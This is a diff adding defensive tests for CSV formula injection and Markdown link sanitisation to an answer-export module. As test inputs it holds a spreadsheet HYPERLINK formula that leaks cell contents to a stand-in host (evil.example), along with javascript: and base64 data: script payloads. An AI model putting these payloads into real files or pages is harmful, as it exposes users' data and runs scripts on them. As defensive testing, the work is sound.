@@ -6,6 +6,10 @@ import csv
 import io
 import json
 
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
 from mgiassist.answer import Answer, AnswerSentence, CitedPassage, Span
 from mgiassist.export import (
     CONVERSATION_CSV_FIELDS,
@@ -171,3 +175,105 @@ def test_comparison_csv() -> None:
         ("q?", "Ghana", NO_PASSAGE),
     ]
     assert table[0]["footnote_urls"] == URL and table[0]["chunk_id"] == "Cambodia-1"
+
+
+# --- exports safe to open -------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as a formula (OWASP)
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def _hostile_record(text: str) -> dict:
+    passage = _passage(text=text)
+    passage.label = text
+    record = Answer(question=text, search_query=text, abstained=False,
+                    sentences=[AnswerSentence(text, 1, 0.8, Span(0, 1))], passages=[passage]).to_dict()
+    record["asked_at"] = text
+    return record
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        text = start + "1+2" if start != "=" else FORMULA
+        row = _csv_rows(conversation_csv([_hostile_record(text)]))[0]
+        for name in ("question", "search_query", "citation", "passage", "asked_at", "highlighted"):
+            assert row[name] == "'" + text, (start, name)
+        assert row["turn"] == "1" and row["marker"] == "1"  # numbers are numbers, not text
+
+
+def test_csv_leaves_numbers_and_harmless_text_alone() -> None:
+    record = _hostile_record("Kenya counts 1-2 million emigrants.")
+    record["citations"][0]["marker"] = -3  # a number is never quoted, even a negative one
+    row = _csv_rows(conversation_csv([record]))[0]
+    assert row["passage"] == "Kenya counts 1-2 million emigrants." and row["marker"] == "-3"
+
+
+def test_comparison_csv_quotes_formulas_too() -> None:
+    rows = compare_countries(FORMULA, ["Cambodia"], lambda q, c: _answer(c, True))
+    rows[0].passage = "@SUM(A1:A9)"
+    table = _csv_rows(comparison_csv(FORMULA, rows))
+    assert table[0]["question"] == "'" + FORMULA and table[0]["passage"] == "'@SUM(A1:A9)"
+    assert table[0]["country"] == "Cambodia"
+
+
+# Any text: what cannot open a formula comes back as it was; what could comes back behind a quote.
+@settings(max_examples=50, deadline=None)
+@given(text=st.text())
+def test_csv_cells_never_open_a_formula(text: str) -> None:
+    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
+    row = _csv_rows(conversation_csv([_hostile_record(text)]))[0]
+    for name in ("question", "search_query", "citation", "passage", "asked_at"):
+        assert not row[name].startswith(FORMULA_STARTS)
+        assert row[name] == expected
+    rows = compare_countries(text, ["Cambodia"], lambda q, c: _answer(c, True))
+    rows[0].passage = text
+    table = _csv_rows(comparison_csv(text, rows))[0]
+    assert table["question"] == expected and table["passage"] == expected
+
+
+def _links(markdown: str) -> list[str]:
+    """Every link and image target of ``markdown`` as a renderer that trusts every URL sees it
+    (markdown-it refuses javascript: itself; a viewer need not)."""
+    markdown_it = pytest.importorskip("markdown_it")
+    md = markdown_it.MarkdownIt("commonmark")
+    md.validateLink = lambda url: True
+    tokens = md.parse(markdown)
+    found = []
+    for token in tokens:
+        for child in token.children or []:
+            if child.type in ("link_open", "image"):
+                found.append(child.attrGet("href") or child.attrGet("src"))
+    return found
+
+
+def test_markdown_links_only_http_and_mailto() -> None:
+    record = _hostile_record("See the law.")
+    record["citations"][0]["citation"]["footnotes"] = [{"number": 1, "text": "", "urls": [
+        URL, "mailto:office@example.org", "javascript:alert(document.cookie)",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "https://example.org/x>[x](javascript:alert(1))"]}]
+    md = conversation_markdown([record])
+    assert _links(md) == [URL, "mailto:office@example.org"]
+    assert "- javascript:alert(document.cookie)" in md  # shown as text, not dropped
+    assert "- data:text/html" in md
+
+
+def test_markdown_text_never_becomes_a_link() -> None:
+    text = "[ref]: javascript:alert(2)\n\n[click](javascript:alert(1)) ![x](data:image/png;base64,AA) [ref]"
+    md = conversation_markdown([_hostile_record(text)])
+    assert _links(md) == [URL]  # the footnote's own link only
+    assert "click" in md and "javascript:alert(2)" in md
+
+
+# Link-shaped text (inline links, images, autolinks, definitions) among noise, and any text.
+_NOISE = st.text(alphabet="[]()<>:!&#\\\n x", max_size=6)
+_LINKISH = st.tuples(_NOISE, st.sampled_from(["[", "![", "<", "\n["]), _NOISE,
+                     st.sampled_from(["](", "]: ", "][", "]", ""]),
+                     st.sampled_from(["javascript:alert(1)", "data:text/html,x", "x"]),
+                     st.sampled_from([")", ">", ' "t")', ""]), _NOISE).map("".join)
+
+
+@settings(max_examples=50, deadline=None)
+@given(text=st.one_of(_LINKISH, st.text()))
+def test_markdown_text_never_becomes_a_link_for_any_text(text: str) -> None:
+    assert _links(conversation_markdown([_hostile_record(text)])) == [URL]
